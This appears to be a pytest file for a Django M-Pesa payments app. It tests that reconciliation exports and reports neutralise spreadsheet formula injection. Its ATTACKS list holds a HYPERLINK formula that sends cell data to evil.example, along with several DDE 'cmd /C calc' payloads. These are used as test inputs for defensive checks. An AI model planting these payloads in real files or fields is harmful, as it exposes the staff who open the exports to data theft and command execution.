"""Exports and reports run no formulas: text a paying customer, a requester or Safaricom's payload filled in
reaches export_reconciliation (CSV, XLSX) and the reconcile_statement report with a leading `'` when it
begins with =, +, -, @, a tab or a carriage return; XLSX text is a string cell, numbers and dates stay typed."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.core.management import call_command

from core.spreadsheet_cells import neutralise
from payments.models import PaymentSource, PayoutKind, PayoutStatus
from payments.reconciliation import export as export_module
from payments.reconciliation.export import xlsx_title
from payments.reconciliation.progress import Progress
from tests.factories import make_payment, make_payout, make_requester
from tests.payments.reconciliation.statements import b2c_row, write_csv

pytestmark = pytest.mark.django_db

WHEN = datetime(2024, 7, 10, 9, 0, tzinfo=UTC)
ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Refund status")',
    "+254712345678+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_the_one_helper_prefixes_every_trigger_and_nothing_else(text):
    assert neutralise(text) == "'" + text
    assert neutralise(neutralise(text)) == "'" + text  # applying it twice changes nothing more
    for safe in ("Jane Wanjiru", "", "0712345678", "ORDER-1", "'=already quoted"):
        assert neutralise(safe) == safe
    for typed in (None, 5, Decimal("-1.50"), WHEN):
        assert neutralise(typed) is typed


@pytest.fixture
def poisoned():
    """A customer's C2B payment whose payer name and BillRefNumber are formulas, refunded by a requester
    whose remarks are one too, answered by M-Pesa with a ReceiverPartyPublicName that is another."""
    payment = make_payment(
        source=PaymentSource.C2B, receipt="SGX0000001", amount=Decimal("500.00"), created_at=WHEN,
        payer_name=ATTACKS[0], account_reference=ATTACKS[3], description=ATTACKS[4],
    )  # fmt: skip
    payout = make_payout(
        kind=PayoutKind.REFUND, payment=payment, status=PayoutStatus.COMPLETED, amount=Decimal("500.00"),
        recipient_name=ATTACKS[0], recipient_reference=ATTACKS[1], remarks=ATTACKS[2], occasion=ATTACKS[5],
        receiver_name=ATTACKS[0], result_description=ATTACKS[3], requested_by=make_requester("=evil"),
        created_at=WHEN, completed_at=WHEN, transaction_id="SGX0000002", result_code="0",
    )  # fmt: skip
    return payment, payout


def export_csv(kind: str) -> list[dict]:
    out = io.StringIO()
    call_command(
        "export_reconciliation", "--start", "2024-07-01", "--end", "2024-07-31", "--kind", kind, "--format", "csv",
        stdout=out, stderr=io.StringIO(),
    )  # fmt: skip
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_csv_export_of_payouts_and_payments_neutralises_every_text_cell(poisoned):
    [payout] = export_csv("payouts")
    for column, text in [("recipient_name", 0), ("recipient_reference", 1), ("remarks", 2), ("occasion", 5),
                         ("receiver_name", 0), ("result_description", 3)]:  # fmt: skip
        assert payout[column] == "'" + ATTACKS[text], column
    assert payout["requested_by"] == "'=evil"
    assert payout["amount"] == "500.00" and payout["created_at"] == "2024-07-10 12:00:00"
    [payment] = export_csv("payments")
    assert payment["payer_name"] == "'" + ATTACKS[0]
    assert payment["account_reference"] == "'" + ATTACKS[3]
    assert payment["description"] == "'" + ATTACKS[4]
    assert payment["receipt"] == "SGX0000001" and payment["amount"] == "500.00"


def test_csv_written_by_python_is_neutralised_too():
    """Where the export cannot stream from PostgreSQL's COPY (SQLite), the same rule applies."""
    out = io.StringIO()
    export_module.write_csv(out, ["name", "amount"], [(ATTACKS[0], Decimal("5.00"))], Progress(None, "test"))
    assert list(csv.reader(io.StringIO(out.getvalue())))[1] == ["'" + ATTACKS[0], "5.00"]


def test_xlsx_export_writes_text_as_strings_never_formulas(poisoned, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "payouts.xlsx"
    for kind in ("payouts", "payments"):
        path = tmp_path / f"{kind}.xlsx"
        call_command(
            "export_reconciliation", "--start", "2024-07-01", "--end", "2024-07-31", "--kind", kind,
            "--output", str(path), stdout=io.StringIO(), stderr=io.StringIO(),
        )  # fmt: skip
        sheet = load_workbook(path).worksheets[0]  # not data_only: a formula would read back as one
        header = [c.value for c in sheet[1]]  # readable titles over the columns' names
        titles = {xlsx_title(column): column for column in ("recipient_name", "payer_name", "amount", "created_at")}
        cells = {titles.get(title, title): cell for title, cell in zip(header, sheet[2], strict=True)}
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        name = cells["recipient_name" if kind == "payouts" else "payer_name"]
        assert name.data_type == "s" and name.value == "'" + ATTACKS[0]
        assert cells["amount"].value == Decimal("500.00") or cells["amount"].value == 500
        assert cells["amount"].data_type == "n"
        assert isinstance(cells["created_at"].value, datetime)


def test_reconcile_statement_report_neutralises_statement_text(tmp_path):
    """A statement row nobody in our ledger matches is reported with its Details and Other Party Info,
    which Safaricom fills from the customer's own name."""
    row = b2c_row("SGZ0000001", "10-07-2024 12:00:00", "100.00", party=ATTACKS[0])
    row.update({"Reason Type": "", "Details": ATTACKS[1]})
    statement = write_csv(tmp_path / "statement.csv", [row])
    report = tmp_path / "report.csv"
    with pytest.raises(SystemExit):
        call_command("reconcile_statement", str(statement), report=str(report), stdout=io.StringIO(),
                     stderr=io.StringIO())  # fmt: skip
    with report.open(newline="") as f:
        [row] = list(csv.DictReader(f))
    assert row["kind"] == "statement_only"
    assert row["statement_details"] == "'" + ATTACKS[1] + " | " + ATTACKS[0]
    for value in row.values():
        assert value[:1] not in "=+-@\t\r" or value == "", row
